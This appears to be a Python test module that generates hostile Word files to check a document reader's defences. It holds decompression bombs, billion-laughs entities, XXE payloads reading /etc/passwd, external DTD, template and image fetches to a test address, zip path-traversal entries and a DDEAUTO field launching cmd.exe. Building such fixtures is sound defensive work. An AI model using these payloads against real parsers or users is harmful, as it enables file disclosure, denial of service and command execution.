"""Word files: bombs, giant spans, depth, entities, and what they would fetch from outside."""

from __future__ import annotations

from collections.abc import Iterator

from tests.extract.docx_files import TYPES, cell, p, row, table
from tests.hostile.bombs import MIB, flate_bomb, with_ready_parts, zip_of
from tests.hostile.case import OK, READ, HostileClass, failed
from tests.hostile.docx_report import MAIN, body, main, package, parts


def classes(address: str) -> Iterator[HostileClass]:
    """`address`: host and port that no reader may call."""
    yield HostileClass("docx_bomb", failed("too_large"), dict(_bombs()))
    yield HostileClass("docx_spans", READ, dict(_spans()))
    yield HostileClass("docx_deep", READ, {f"levels_{n}.docx": package(after=_deep(n)) for n in (100, 250, 600, 2500)})
    yield HostileClass("docx_entities", READ, dict(_entities(address)))
    yield HostileClass("docx_outside", OK, dict(_outside(address)))


def _bombs() -> Iterator[tuple[str, bytes]]:
    start, end = main(body() + "\0").encode().split(b"\0")
    fillers = {
        "spaces_quarter": b" ",
        "letters_quarter": p("ก").encode(),
        "breaks_quarter": b"<w:p/>",
        "tags_quarter": b"<w:p><w:r/></w:p>",
    }
    for name, filler in fillers.items():
        yield f"{name}.docx", with_main(flate_bomb(filler, 256, start, end, raw=True), 256 * MIB)
    deep = start + b"<w:sdt><w:sdtContent>" * 100
    yield (
        "text_quarter_in_one.docx",
        with_main(flate_bomb(b"a", 256, deep + b"<w:p><w:r><w:t>", b"</w:t></w:r></w:p>", raw=True), 256 * MIB),
    )
    yield "paragraphs_400k.docx", package(after=p("กข") * 400_000)
    yield "paragraphs_200k.docx", package(after="".join(p(f"{n:x}") for n in range(200_000)))
    yield "tags_5m.docx", package(after="<w:p/>" * 5_000_000)
    for kind in ("styles", "numbering", "footnotes"):
        relation = f'<Relationship Id="s" Type="{TYPES}/{kind}" Target="{kind}.xml"/>'
        yield (
            f"{kind}_quarter.docx",
            with_ready_parts(package(relations=relation), {f"word/{kind}.xml": (flate_bomb(b" ", 256, raw=True), 256 * MIB, 0)}),
        )
    yield (
        "relations_quarter.docx",
        with_ready_parts(
            zip_of({n: d for n, d in parts(main(body())).items() if not n.startswith("word/_rels")}),
            {"word/_rels/document.xml.rels": (flate_bomb(b" ", 256, raw=True), 256 * MIB, 0)},
        ),
    )
    yield "entries_20k.docx", package(more={f"word/media/{n}.png": b"" for n in range(20_000)})


def with_main(packed: bytes, size: int) -> bytes:
    others = {name: data for name, data in parts("").items() if name != MAIN}
    return with_ready_parts(zip_of(others), {MAIN: (packed, size & 0xFFFFFFFF, 0)})


def _spans() -> Iterator[tuple[str, bytes]]:
    def spanned(count: int, cells: int = 1, rows: int = 1) -> str:
        return table(*(row(*(cell("x", f'<w:gridSpan w:val="{count}"/>') for _ in range(cells))) for _ in range(rows)))

    for name, extra in {
        "span_1e9": spanned(10**9),
        "span_3m_x20": spanned(3_000_000, 20),
        "span_2e31": spanned(2**31),
        "span_negative": spanned(-5),
        "span_1000_x1000": spanned(1000, 1000),
        "span_200_x_rows": spanned(200, 5, 2000),
        "before_1e9": table(row("x", properties='<w:gridBefore w:val="1000000000"/>')),
        "after_1e9": table(row("x", properties='<w:gridAfter w:val="1000000000"/>')),
        "grid_100k": table(row("x", "y"), grid=[100] * 100_000),
        "cells_20k_in_a_row": table(row(*["x"] * 20_000)),
        "rows_5k": table(*(row(f"x{n}", f"y{n}") for n in range(5_000))),
        "merged_down_20k": table(*[row(cell("x", "<w:vMerge/>"), "y")] * 20_000),
        "tables_5k": table(row("x", "y")) * 5_000,
        "nested_60": _nested_tables(60),
        "nested_20_wide": _nested_tables(20, 3),
        "list_level_1e9": p("x", '<w:numPr><w:ilvl w:val="1000000000"/><w:numId w:val="99999999999"/></w:numPr>'),
    }.items():
        yield f"{name}.docx", package(after=extra)


def _nested_tables(levels: int, wide: int = 1) -> str:
    made = p("ใน")
    for _ in range(levels):
        made = table(row(*[cell(made + p("ก")), *[cell("ข")] * (wide - 1)]))
    return made


def _deep(levels: int) -> str:
    """Content controls in content controls: each takes two levels, six more stand around."""
    each = (levels - 10) // 2
    return "<w:sdt><w:sdtContent>" * each + p("ลึก") + "</w:sdtContent></w:sdt>" * each


def _entities(address: str) -> Iterator[tuple[str, bytes]]:
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    long = '<!ENTITY a "' + "a" * 100_000 + '">'
    for name, declared, used in (
        ("laughs", laughs, "&a11;"),
        ("quadratic", long, "&a;" * 10_000),
        ("file", '<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        ("relative_file", '<!ENTITY a SYSTEM "../../../../../../etc/passwd">', "&a;"),
        ("http", f'<!ENTITY a SYSTEM "http://{address}/entity">', "&a;"),
        ("parameter", f'<!ENTITY % a SYSTEM "http://{address}/parameter.dtd"> %a;', ""),
        ("in_circle", '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        ("device", '<!ENTITY a SYSTEM "file:///dev/zero">', "&a;"),
    ):
        yield f"{name}.docx", package(before=f"<!DOCTYPE w:document [{declared}]>", after=p(f"ท้าย {used}"))
    yield "outside_dtd.docx", package(before=f'<!DOCTYPE w:document SYSTEM "http://{address}/all.dtd">')
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield "xinclude.docx", package(after=f"<w:p><w:r><w:t>{include}</w:t></w:r></w:p>")
    sheet = f'<?xml-stylesheet type="text/xsl" href="http://{address}/style.xsl"?>'
    yield "stylesheet.docx", package(before=sheet)


def _outside(address: str) -> Iterator[tuple[str, bytes]]:
    for name, kind, target in (
        ("template_http", "attachedTemplate", f"http://{address}/template.dotm"),
        ("template_file", "attachedTemplate", "file:///etc/passwd"),
        ("template_share", "attachedTemplate", rf"\\{address}\share\x.dotm"),
        ("image_http", "image", f"http://{address}/image.png"),
        ("ole_http", "oleObject", f"http://{address}/object"),
        ("frame_http", "frame", f"http://{address}/frame.html"),
        ("styles_http", "styles", f"http://{address}/styles.xml"),
    ):
        relation = f'<Relationship Id="x" Type="{TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
        yield f"{name}.docx", package(relations=relation)
    yield (
        "climbing_names.docx",
        package(more={"../../../../tmp/ita-climbed.txt": b"x", "/tmp/ita-rooted.txt": b"x", "..\\..\\ita.txt": b"x"}),
    )
    climbing = f'<Relationship Id="x" Type="{TYPES}/styles" Target="../../../../../../etc/passwd"/>'
    yield "climbing_relation.docx", package(relations=climbing)
    yield "macro.docx", package(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 2000})
    field = "<w:p><w:fldSimple w:instr='INCLUDETEXT \"/etc/passwd\"'><w:r><w:t>.</w:t></w:r></w:fldSimple></w:p>"
    dde = "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/k calc\"'><w:r><w:t>.</w:t></w:r></w:fldSimple></w:p>"
    yield "fields.docx", package(after=field + dde)
